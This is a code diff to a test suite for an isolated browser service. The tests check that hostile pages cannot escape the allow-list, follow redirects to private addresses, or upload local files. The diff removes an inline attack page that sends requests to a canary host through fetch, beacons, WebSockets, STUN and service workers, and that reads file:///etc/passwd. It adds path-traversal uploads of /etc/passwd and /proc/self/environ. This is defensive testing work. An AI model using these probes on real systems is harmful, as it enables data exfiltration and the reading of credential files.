@@ -1,50 +1,30 @@
-import { describe, expect, test } from 'vitest'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import {
+  attackPages,
+  type DatagramCanary,
+  notHeld,
+  openDatagramCanary,
+  PRIVATE_PLACES,
+  reached,
+} from './support/browser-attack-pages.ts'
 import { browserWorld } from './support/browser-world.ts'
 
-/** Everything that a page can try to reach a host that it may not; each tells whether it got through. */
-const attack = (
-  canary: string,
-) => `<title>Attack</title><link rel="dns-prefetch" href="//${canary}"><link rel="preconnect" href="http://${canary}">
-<link rel="prefetch" href="http://${canary}/"><img src="http://${canary}/"><script src="http://${canary}/file.js"></script>
-<iframe src="http://${canary}/"></iframe><iframe src="/away"></iframe><iframe src="file:///etc/passwd"></iframe>
-<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${canary}/"]}]}</script><script>
-const soon = (work) => Promise.race([work, new Promise((_, fail) => setTimeout(fail, 3000, 'late'))]).then((value) => 'through ' + value, () => 'held')
-window.attacks = async () => ({
-  fetch: await soon(fetch('http://${canary}/', { mode: 'no-cors' }).then((answer) => { if (!answer.ok && answer.type !== 'opaque') throw 0; return fetch('http://${canary}/').then((real) => real.text()) })),
-  redirect: await soon(fetch('/away').then((answer) => answer.ok ? answer.text() : Promise.reject())),
-  beacon: String(navigator.sendBeacon('http://${canary}/', 'x')),
-  socket: await soon(new Promise((resolve, reject) => { const one = new WebSocket('ws://${canary}/'); one.onopen = resolve; one.onerror = reject })),
-  worker: await soon(navigator.serviceWorker.register('/sw.js').then((one) => one.active ?? Promise.reject())),
-  rtc: await soon(new Promise((resolve, reject) => {
-    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${canary}' }] })
-    peer.createDataChannel('x'); peer.onicecandidate = ({ candidate }) => candidate ? resolve(candidate.candidate) : reject()
-    peer.createOffer().then((offer) => peer.setLocalDescription(offer)) })),
-  own: await soon(fetch('http://127.0.0.1:3128/').then((answer) => answer.ok ? answer.text() : Promise.reject())),
-  file: await soon(fetch('file:///etc/hostname').then((answer) => answer.text())),
-  frames: [...document.querySelectorAll('iframe')].map((frame) => { try { return frame.contentDocument?.body?.innerText ?? '' } catch { return '' } }).join(),
-})</script>`
-
-const world = browserWorld((canary) => ({
-  '/attack': attack(canary.host),
-  '/away': (_, response) => {
-    response.writeHead(302, { location: `http://${canary.host}/` })
-    response.end()
-  },
-  '/sw.js': (_, response) => {
-    response.writeHead(200, { 'content-type': 'text/javascript' })
-    response.end(`self.oninstall = () => fetch('http://${canary.host}/')`)
-  },
-}))
+let udp: DatagramCanary
+beforeAll(async () => {
+  udp = await openDatagramCanary()
+})
+afterAll(() => udp.close())
+const world = browserWorld((canary) => attackPages(canary.host, udp.host))
 const { act, done, url } = world
+
+const POLL = { timeout: 20_000 }
 
 describe('a page that attacks', () => {
   test('reaches no host beyond the allow-list by any way that pages have', async () => {
     await done('open', { url: url('/attack') })
     const { value } = await done<{ value: Record<string, string> }>('evaluate', { script: 'attacks()' })
-    const { frames, beacon: _, ...ways } = value
-    expect(ways).toEqual(Object.fromEntries(Object.keys(ways).map((way) => [way, 'held'])))
-    expect(frames).not.toMatch(/canary|root:/)
-    expect(world.canary().seen, 'requests that got through').toEqual([])
+    expect(notHeld(value)).toEqual([])
+    expect(reached(world.canary(), udp)).toEqual([])
     expect((await world.events('browser.request')).some((event) => 'allowed' in event && !event.allowed)).toBe(true)
   })
 
@@ -71,7 +51,23 @@ describe('a page that attacks', () => {
     expect(
       tabs.map((tab) => tab.url).filter((address) => !/^(?:http|about:blank|chrome-error:|$)/.test(address)),
     ).toEqual([])
-    expect(world.canary().seen).toEqual([])
+    expect(reached(world.canary(), udp)).toEqual([])
+  })
+
+  test.each(PRIVATE_PLACES)('is not left for %s by a redirect', async (place) => {
+    const left = await act('navigate', { url: url(`/to?${place}`) })
+    expect(left).toMatchObject({ outcome: 'refused', error: { code: 'ADDRESS_REFUSED' } })
+    expect(reached(world.canary(), udp)).toEqual([])
+  })
+
+  test('gives no file to a session that has no room for it, and takes none from outside of the session', async () => {
+    await done('navigate', { url: url('/attack') })
+    await done('evaluate', { script: `void (location.href = '/large')` })
+    await expect.poll(() => world.events('browser.downloaded'), POLL).toMatchObject([{ name: 'large.bin', path: null }])
+    await done('evaluate', { script: `void (document.body.innerHTML = '<input type=file id=file>')` })
+    for (const paths of ['/etc/passwd', '../../../etc/passwd', '/proc/self/environ'])
+      expect(await act('upload', { target: '#file', paths }), paths).not.toMatchObject({ outcome: 'ok' })
+    expect(await done('evaluate', { script: 'file.files.length' })).toMatchObject({ value: 0 })
   })
 
   test('cannot see another user, and another user cannot see its browser', async () => {
